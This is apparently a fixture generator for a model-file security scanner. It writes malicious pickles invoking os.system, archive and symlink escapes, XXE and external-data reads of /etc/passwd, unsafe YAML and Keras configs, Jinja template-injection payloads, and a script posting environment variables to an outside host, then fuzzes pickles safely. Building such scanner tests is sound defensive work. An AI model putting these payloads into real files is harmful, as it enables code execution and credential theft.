"""Writes hand-assembled files that attack whoever loads them, each of which must be blocked, and
5,000 mutations of such pickles with what the real unpickler would import: malicious.py FOLDER

Nothing here is ever loaded: the unpickler that judges the mutations resolves no name.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import random
import resource
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib

import h5py
import lz4.frame
import numpy as np
import onnx
from onnx import TensorProto, helper

warnings.filterwarnings("ignore")
folder = pathlib.Path(sys.argv[1])
folder.mkdir(parents=True)


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call(name, *arguments, protocol=2):
    """A pickle that calls `module.name` with texts."""
    module, _, last = name.rpartition(".")
    if protocol < 4:
        found = b"c" + module.encode() + b"\n" + last.encode() + b"\n"
    else:
        found = text(module) + text(last) + b"\x93"
    return b"\x80" + bytes([protocol]) + found + b"(" + b"".join(map(text, arguments)) + b"tR."


PAYLOAD = call("os.system", "id")
# One name for every class of technique in the public advisories, and neighbours of them.
NAMES = """
os.system posix.system nt.system subprocess.Popen builtins.eval builtins.exec __builtin__.eval
builtins.__import__ builtins.open runpy.run_path runpy._run_code importlib.import_module
pkgutil.resolve_name pydoc.locate pydoc.pipepager operator.methodcaller functools.reduce pty.spawn
timeit.timeit cProfile.run profile.run trace.Trace code.InteractiveInterpreter bdb.Bdb pdb.run
doctest.debug_script ctypes.CDLL socket.create_connection ssl.get_server_certificate
webbrowser.open shutil.rmtree idlelib.pyshell.ModifiedInterpreter lib2to3.pgen2.grammar.Grammar.loads
ensurepip._run_pip distutils.spawn.spawn asyncio.unix_events._UnixSubprocessTransport._start
uuid._get_command_stdout _osx_support._read_output _aix_support._read_cmd_output imaplib.IMAP4_stream
_pyrepl.pager.pipe_pager test.support.script_helper.assert_python_ok numpy.f2py.crackfortran.myeval
numpy.testing._private.utils.runstring numpy.load torch.load torch.hub.load
torch.utils.collect_env.run torch._dynamo.guards.GuardBuilder.get
torch.jit.unsupported_tensor_ops.execWrapper torch.fx.experimental.symbolic_shapes.ShapeEnv
torch.utils._config_module.load_config torch.utils.bottleneck.__main__.run_cprofile
torch.storage._load_from_bytes pandas.eval pandas.read_pickle joblib.load dill.loads cloudpickle.loads
pickle.loads _pickle.loads marshal.loads types.FunctionType types.CodeType codecs.decode
inspect.getattr_static codeop.compile_command linecache.getlines logging.FileHandler
logging.config.listen zipfile.ZipFile io.open _io.FileIO atexit.register threading.Thread
multiprocessing.Process smtplib.SMTP urllib.request.urlopen requests.get sympy.sympify
yaml.unsafe_load jinja2.Template transformers.pipeline mypackage.run itertools.starmap builtins.map
builtins.setattr builtins.type weakref.finalize site.main _posixsubprocess.fork_exec
_xxsubinterpreters.run_string _interpreters.exec pip.main tensorflow.io.read_file
keras.models.load_model networkx.read_gpickle nltk.data.load gensim.utils.unpickle
fastai.learner.load_learner torch.ops.load_library torch.package.PackageImporter
torch.UntypedStorage.from_file statsmodels.iolib.smpickle.load_pickle
""".split()


def write(name, data):
    (folder / name).write_bytes(data if isinstance(data, bytes) else data.encode())


def pickles():
    for name in NAMES:
        for protocol in (2, 4):
            write(f"{name}.{protocol}.pkl", call(name, "id", protocol=protocol))
        parts = name.split(".")
        for dots in range(1, len(parts) - 1):
            found = text(".".join(parts[:dots])) + text(".".join(parts[dots:]))
            write(f"{name}.dotted-{dots}.pkl", b"\x80\x04" + found + b"\x93)R.")
    tricks = {
        "inst": b"(S'id'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'id'\no.",
        "escaped": b"V\\u006fs\nVsystem\n\x93(S'\\x69d'\ntR.",
        "memo-after-pop": b"\x80\x04\x8c\x02os\x940h\x00\x8c\x06system\x93\x8c\x02id\x85R.",
        "sparse-memo": b"\x80\x04\x8c\x02os\x71\x05\x8c\x06system\x94h\x05h\x01\x93\x8c\x02id\x85R.",
        "popped": b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R0N.",
        "below-mark": b"\x80\x02(cos\nsystem\nX\x02\0\0\0id\x85R1N.",
        "duplicated": b"\x80\x02cos\nsystem\n2X\x02\0\0\0id\x85R.",
        "second": b"\x80\x02N." + PAYLOAD,
        "second-after-text": b"V text\n0N." + PAYLOAD,
        "long-prefix": b"\x80\x02" + b"(0" * 200_000 + PAYLOAD[2:],
        "extension": b"\x80\x02\x82\x01)R.",
        "broken-after": PAYLOAD[:-1] + b"\xff",
        "truncated": PAYLOAD[:-1],
        "missing-memo": PAYLOAD[:-1] + b"h\x7f.",
        "computed": b"\x80\x04" + text("os") + b"c_codecs\nencode\n" + text("system") + b"\x85R\x93" + text("id") + b"\x85R.",
        "build-global": b"\x80\x02cnumpy\nsize\n}" + text("evil") + b"K\x01sb.",
        "hook": b"\x80\x02ccollections\nOrderedDict\n)R}" + text("__setstate__") + b"cnumpy\nlog1p\nsb.",
        "persistent": b"\x80\x02" + text("id") + b"Q.",
        "getattr-handed": b"\x80\x02]cbuiltins\ngetattr\na.",
        "getattr-private": b"\x80\x02cbuiltins\ngetattr\nccollections\nOrderedDict\n" + text("__class__") + b"\x86R.",
        "partial": b"\x80\x02cfunctools\npartial\ncos\nsystem\n\x85R.",
        "nested": b"\x80\x03C" + bytes([len(PAYLOAD)]) + PAYLOAD + b".",
        "nested-loaded": b"\x80\x03ctorch.storage\n_load_from_bytes\nC" + bytes([len(PAYLOAD)]) + PAYLOAD + b"\x85R.",
        "frame": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + PAYLOAD[2:],
        "huge-memo": b"\x80\x02Nr\xff\xff\xff\xff0" + PAYLOAD[2:],
        "newobj-partial": b"\x80\x02cfunctools\npartial\ncos\nsystem\n\x85\x81.",
        "rot13": b"\x80\x02c_codecs\nencode\n" + text("x") + text("zlib") + b"\x86R.",
    }
    for name, data in tricks.items():
        write(f"trick-{name}.pkl", data)


def containers():
    packers = {
        "gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "lz4": lz4.frame.compress,
        "zlib": zlib.compress, "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    }
    for name, pack in packers.items():
        write(f"packed.{name}", pack(PAYLOAD))
        write(f"packed-twice.{name}", pack(pack(PAYLOAD)))
    write("second-member.gz", gzip.compress(b"\x80\x02N.") + gzip.compress(PAYLOAD))
    bad = bytearray(gzip.compress(PAYLOAD))
    bad[-6] ^= 1
    write("bad-trailer.gz", bytes(bad))
    write("bomb.gz", gzip.compress(bytes(64 << 20)))

    def archive(name, members, method=zipfile.ZIP_STORED):
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w", method) as file:
            for member, content in members:
                file.writestr(member, content)
        write(name, data.getvalue())
        return bytearray(data.getvalue())

    good = archive("torch.pt", [("archive/data.pkl", PAYLOAD), ("archive/version", "3\n")])
    archive("deflated.pt", [("archive/data.pkl", PAYLOAD)], zipfile.ZIP_DEFLATED)
    archive("twice.pt", [("archive/data.pkl", b"\x80\x02N."), ("archive/data.pkl", PAYLOAD)])
    archive("case.pt", [("archive/data.pkl", b"\x80\x02N."), ("archive/DATA.pkl", b"\x80\x02N.")])
    archive("escape.zip", [("../../x", "text")])
    inner = bytes(good)
    for depth in range(7):
        inner_file = io.BytesIO()
        with zipfile.ZipFile(inner_file, "w") as file:
            file.writestr(f"inner-{depth}.zip", inner)
        inner = inner_file.getvalue()
        write(f"nested-{depth}.zip", inner)
    harmless = archive("harmless.zip", [("archive/data.pkl", b"\x80\x02N."), ("b", "text")])
    (folder / "harmless.zip").unlink()
    at = harmless.rfind(b"archive/data.pkl")
    for name, change in {"renamed": (at, b"brchive"), "flag": (6, b"\x01"), "method": (8, b"\x63"), "crc": (14, b"\0\0\0\1")}.items():
        spoilt = bytearray(harmless)
        spoilt[change[0] : change[0] + len(change[1])] = change[1]
        write(f"zip-{name}.pt", bytes(spoilt))
    write("zip-prefix.safetensors", b"\x02\0\0\0\0\0\0\0{}" + bytes(good))
    write("zip-suffix.zip", bytes(harmless) + b"more")
    for mode in ("w", "w:gz", "w:xz"):
        data = io.BytesIO()
        with tarfile.open(fileobj=data, mode=mode) as file:
            member = tarfile.TarInfo("x.pkl")
            member.size = len(PAYLOAD)
            file.addfile(member, io.BytesIO(PAYLOAD))
        write(f"tar-{mode.replace(':', '-')}", data.getvalue())
    link = io.BytesIO()
    with tarfile.open(fileobj=link, mode="w") as file:
        member = tarfile.TarInfo("x")
        member.type, member.linkname = tarfile.SYMTYPE, "/etc/passwd"
        file.addfile(member)
    write("link.tar", link.getvalue())
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + PAYLOAD
    write("objects.npy", npy)
    archive("objects.npz", [("a.npy", npy)])
    magic = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    write("legacy.pth", magic + PAYLOAD + pickle.dumps(["0"], 2))
    write("executable.bin", b"\x7fELF\x02\x01\x01" + bytes(60))
    write("script.bin", "#!/bin/sh\nid\n")


def formats():
    weights = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    outside = TensorProto(name="w", data_type=1, dims=[2], data_location=1)
    outside.external_data.add(key="location", value="../../etc/passwd")
    place = lambda name: helper.make_tensor_value_info(name, TensorProto.FLOAT, [2])  # noqa: E731

    def model(nodes, initializer):
        graph = helper.make_graph(nodes, "g", [place("x")], [place("y")], [initializer])
        return helper.make_model(graph).SerializeToString()

    add = helper.make_node("Add", ["x", "w"], ["y"])
    write("external.onnx", model([add], outside))
    inner = helper.make_graph([add], "s", [], [place("y")], [outside])
    write("subgraph.onnx", model([helper.make_node("If", ["x"], ["y"], then_branch=inner, else_branch=inner)], weights))
    write("python.onnx", model([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], weights))
    node = lambda name, op: b"\x0a" + bytes([len(name)]) + name + b"\x12" + bytes([len(op)]) + op  # noqa: E731
    in_graph = lambda inner: b"\x0a" + bytes([len(inner)]) + inner  # noqa: E731
    for operator in (b"ReadFile", b"WriteFile", b"EagerPyFunc"):
        graph = in_graph(node(b"n", operator))
        write(f"{operator.decode()}.frozen.pb", graph)
        meta = b"\x0a\x02\x12\x00" + b"\x12" + bytes([len(graph)]) + graph
        write(f"{operator.decode()}.saved_model.pb", b"\x08\x01\x12" + bytes([len(meta)]) + meta)
    layer = lambda config: {"class_name": "Sequential", "config": {"layers": [config]}}  # noqa: E731
    keras = {
        "lambda": {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wE="}}}},
        "function": {"module": "os", "class_name": "function", "config": "system"},
        "get-file": {"module": "keras.utils", "class_name": "function", "config": "get_file"},
        "vocabulary": {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
        "module": {"module": "subprocess", "class_name": "Popen", "config": {}},
        "torch": {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": base64.b64encode(PAYLOAD).decode()}},
    }
    for name, config in keras.items():
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w") as file:
            file.writestr("config.json", json.dumps(layer(config)))
        write(f"{name}.keras", data.getvalue())
        with h5py.File(folder / f"{name}.h5", "w") as file:
            file.attrs["model_config"] = json.dumps(layer(config))
    with h5py.File(folder / "link.h5", "w") as file:
        file["l"] = h5py.ExternalLink("/etc/passwd", "/x")
    header = json.dumps({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 4]}}).encode()
    write("short.safetensors", struct.pack("<Q", len(header)) + header + bytes(4))
    template = b"{{ ''.__class__.__mro__ }}"
    key = b"tokenizer.chat_template"
    pair = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(template)) + template
    write("template.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + pair)
    write("tokenizer_config.json", json.dumps({"chat_template": [{"name": "x", "template": template.decode()}]}))
    write("chat_template.jinja", template)
    write("config.json", json.dumps({"auto_map": {"AutoModel": "someone/else--model.Net"}}))
    write("hydra.yaml", "_target_: os.system\n")
    write("object.yaml", "a: !!python/object/apply:os.system [id]\n")
    write("model.pmml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>')
    write("modeling.py", "import os\nos.system('id')\n")
    write("hidden.py", "import base64\nexec(base64.b64decode('aWQ='))\n")
    write("notebook.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["import os\n", "os.system('id')"]}]}))
    write("requirements.txt", "--index-url http://packages.example.net/simple\nx\n")
    skops = io.BytesIO()
    with zipfile.ZipFile(skops, "w") as file:
        file.writestr("schema.json", json.dumps({"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "content": {}}))
    write("model.skops", skops.getvalue())


def varint(number):
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out) + bytes([number])


def field(number, body):
    """A field of a protocol buffer."""
    return varint(number << 3 | 2) + varint(len(body)) + body


def further_formats():
    graph = field(1, field(1, b"n") + field(2, b"ReadFile"))
    library = field(2, field(1, field(1, field(1, b"f")) + field(3, field(1, b"n") + field(2, b"PyFunc"))))
    # Readers of protocol buffers do not mind a missing version or another order.
    write("unversioned.saved_model.pb", field(2, field(2, graph)))
    write("info.meta", field(1, field(5, b"2.21.0")) + field(2, graph))
    write("library.pb", library)
    write("graph.pbtxt", 'node { name: "n" op: "WriteFile" }')
    write("net.prototxt", 'layer { name: "x" type: "Python"\n python_param { module: "os" layer: "system" } }')
    block = b"\x08\0\x10\0" + field(3, field(1, b"v")) + field(4, field(3, b"py_func"))
    write("model.pdmodel", field(1, block))
    write("broken.mlmodel", b"\x08\x04" + field(2, b"") + varint(500 << 3 | 2) + b"\xff\x7f")
    number = lambda value: struct.pack(">I", value)  # noqa: E731
    chars = lambda value: number(9) + number(len(value)) + value  # noqa: E731
    call = number(6) + number(1) + chars(b"system") + number(2) + number(16) + number(1) + chars(b"id") + number(254)
    r_head = b"X\n" + number(3) + number(0x40301) + number(0x30500) + number(5) + b"UTF-8"
    promise = r_head + number(5) + number(252) + call
    write("promise.rds", gzip.compress(promise))
    write("promise.RData", b"RDX3\n" + promise)
    write("closure.rds", r_head + number(0x403) + number(253) + number(254) + call)
    write("symbols.rds", r_head + number(1) * 100_000)
    write("text.rds", b"A\n3\n263169\n")
    write("nested.msgpack", b"\x81\xa4data\xc4" + bytes([len(PAYLOAD)]) + PAYLOAD)
    write("lengths.msgpack", b"\x81\xa1a\xdd\xff\xff\xff\xff\x01")
    write("program.pte", number(0xF0FFFFFF) + b"ET12" + bytes(40))
    for kind, options in (("old", {}), ("new", {"libver": "latest"})):
        with h5py.File(folder / f"storage-{kind}.h5", "w", **options) as file:
            file.create_dataset("d", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)])
    # A file that is sound safetensors, under a name whose loaders unpickle.
    sound = b"\x02\0\0\0\0\0\0\0{}"
    for name in ("sound.pkl", "sound.bin", "sound.ckpt"):
        write(name, sound)
    for name in ("noise.onnx", "noise.gguf", "noise.safetensors", "noise.h5", "noise.npy", "noise.tflite"):
        write(name, b"\xfe noise \xff" * 50)


def texts():
    write("declared.py", "# -*- coding: latin-1 -*-\nx = 'é'\nimport os\nos.system('id')\n".encode("latin-1"))
    write("utf7.py", b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n")
    write("escaped.py", b"# coding: raw_unicode_escape\n\\u0069mport os\n")
    write("nul.py", b"import os\nos.system('id')\n\0")
    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>'
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "latin-1"):
        write(f"{encoding}.pmml", entity.encode(encoding))
    foreign = '{"a": %s, "auto_map": {"AutoModel": "someone/else--model.Net"}}'
    for name, value in {"surrogate": r'"\ud800"', "number": "1e999", "nan": "[NaN, -Infinity]"}.items():
        write(f"{name}.config.json", foreign % value)
    write("wide.json", (foreign % 1).encode("utf-16"))
    write("deep.json", "[" * 100_000)
    write("latin.yaml", b"# \xe9\na: !!python/object/apply:os.system [id]")
    write("template.yaml", "chat_template: \"{{ ''.__class__ }}\"\n")
    write("MLmodel", "flavors:\n  python_function:\n    loader_module: os\n")
    write("tokens.py", "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))\n")
    for name, template in {
        "getattr": "{{ getattr(x, name) }}", "get": "{{ x.get('__globals__') }}",
        "concatenated": "{{ ''['__cla' ~ 'ss__'] }}", "escaped": r"{{ ''['\x5f\x5fclass\x5f\x5f'] }}",
        "filter": "{{ x | attr('__class__') }}", "reversed": "{{ x | attr('__ssalc__' | reverse) }}",
        "global": "{{ lipsum.__globals__ }}", "format": "{{ '{0.__class__}'.format(x) }}",
        "endless": "{% for i in range(999999999) %}{% endfor %}", "include": "{% include 'other' %}",
    }.items():
        write(f"{name}.jinja", template)
        write(f"{name}.tokenizer_config.json", json.dumps({"chat_template": template}))


class Stand:
    """Whatever is imported: it can be called, built and changed, and does nothing."""

    def __new__(cls, *_, **__):
        return object.__new__(cls)

    def __call__(self, *_, **__):
        return Stand()

    def __setstate__(self, _):
        pass

    def append(self, _):
        pass

    extend = add = append

    def __setitem__(self, *_):
        pass


class Trace(pickle.Unpickler):
    """CPython's own machine, that imports nothing and remembers what it was asked for."""

    def __init__(self, data):
        super().__init__(io.BytesIO(data))
        self.names = []

    def find_class(self, module, name):
        self.names.append(f"{module}.{name}")
        return Stand

    def persistent_load(self, _):
        return Stand()


def mutations():
    # The real machine would allocate what a hostile length or memo index says.
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
    source = random.Random(11)
    paths = [path for path in sorted(folder.glob("*.pkl")) if path.stat().st_size < 500 and "huge" not in path.name]
    seeds = [data for data in map(pathlib.Path.read_bytes, paths) if b"system" in data]
    codes = bytes(range(0x80, 0x99)) + b"(.0123NRTUVX]abcdegehijlopqrstu})\n"
    reached = {}
    (folder / "mutations").mkdir()
    for number in range(5000):
        data = bytearray(source.choice(seeds))
        for _ in range(source.randrange(1, 4)):
            at = source.randrange(len(data) + 1)
            match source.randrange(4):
                case 0:
                    data[at:at] = bytes([source.choice(codes)])
                case 1:
                    del data[at : at + 1]
                case 2:
                    data[at : at + 1] = bytes([source.choice(codes)])
                case 3:
                    data[at:at] = source.choice(seeds)[2:-1]
        name = f"mutations/{number}.pkl"
        write(name, bytes(data))
        trace = Trace(bytes(data))
        try:
            trace.load()
        except Exception:  # what ran before the error has run
            pass
        reached[name] = trace.names
    (folder / "mutations.json").write_text(json.dumps(reached))


pickles()
containers()
formats()
further_formats()
texts()
mutations()
